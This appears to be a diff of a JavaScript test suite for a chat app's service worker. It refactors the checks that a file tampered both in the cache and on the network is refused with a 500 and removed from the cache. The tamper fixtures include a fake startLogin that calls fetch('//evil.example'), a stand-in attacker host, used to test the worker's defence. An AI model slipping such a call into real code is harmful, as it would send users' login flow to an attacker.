@@ -396,6 +396,20 @@ test("install fails on a changed file, so the worker in place and its verified c
 });
 
 // The built worker itself (dist/chat/sw.js, as the browser runs it), over the built files.
+/**
+ * A file changed both in the cache and on the network: the worker answers its own 500, whose body
+ * carries nothing of either copy (`leak` is a word both contain), and the changed copy leaves the cache.
+ */
+async function refusesTamperedEverywhere({ listeners, network, store }, path, mode, [cached, fetched], leak) {
+  store.set(path, new Response(cached, { status: 200 }));
+  network.current = () => new Response(fetched, { status: 200 });
+  const refused = await dispatchFetch(listeners, req(`${ORIGIN}${path}`, { mode }));
+  assert.equal(refused.status, 500);
+  assert.ok(!(await refused.text()).includes(leak));
+  await settle();
+  assert.equal(store.has(path), false);
+}
+
 async function builtWorker() {
   const code = await readFile(join(dist, "chat/sw.js"), "utf8");
   const files = new Map();
@@ -432,13 +446,8 @@ test("the built sw.js: a tampered cached app.js is not served, the built one is;
   assert.ok((await bytes(store.get("/chat/app.js").clone())).equals(built));
 
   // Tampered in the cache and on the network: a 500, and the tampered copy is in the cache no more.
-  store.set("/chat/app.js", new Response("alert('cache')", { status: 200 }));
-  network.current = () => new Response("alert('network')", { status: 200 });
-  const refused = await dispatchFetch(listeners, req(`${ORIGIN}/chat/app.js`, { mode: "no-cors" }));
-  assert.equal(refused.status, 500);
-  assert.ok(!(await refused.text()).includes("alert"));
-  await settle();
-  assert.equal(store.has("/chat/app.js"), false);
+  await refusesTamperedEverywhere({ listeners, network, store }, "/chat/app.js", "no-cors",
+    ["alert('cache')", "alert('network')"], "alert");
 
   // Not in the cache, tampered on the network: not served, not cached.
   const again = await dispatchFetch(listeners, req(`${ORIGIN}/chat/app.js`, { mode: "no-cors" }));
@@ -463,11 +472,6 @@ test("the built sw.js: opaque.js is fetched when first asked for, checked, kept,
   assert.ok((await bytes(first)).equals(built));
   await settle();
   assert.ok(store.has("/chat/opaque.js"), "the checked copy was not kept");
-  store.set("/chat/opaque.js", new Response("export const startLogin = () => fetch('//evil.example')", { status: 200 }));
-  network.current = () => new Response("export const startLogin = () => 'network'", { status: 200 });
-  const refused = await dispatchFetch(listeners, req(`${ORIGIN}/chat/opaque.js`, { mode: "cors" }));
-  assert.equal(refused.status, 500);
-  assert.ok(!(await refused.text()).includes("startLogin"));
-  await settle();
-  assert.equal(store.has("/chat/opaque.js"), false);
+  await refusesTamperedEverywhere({ listeners, network, store }, "/chat/opaque.js", "cors",
+    ["export const startLogin = () => fetch('//evil.example')", "export const startLogin = () => 'network'"], "startLogin");
 });
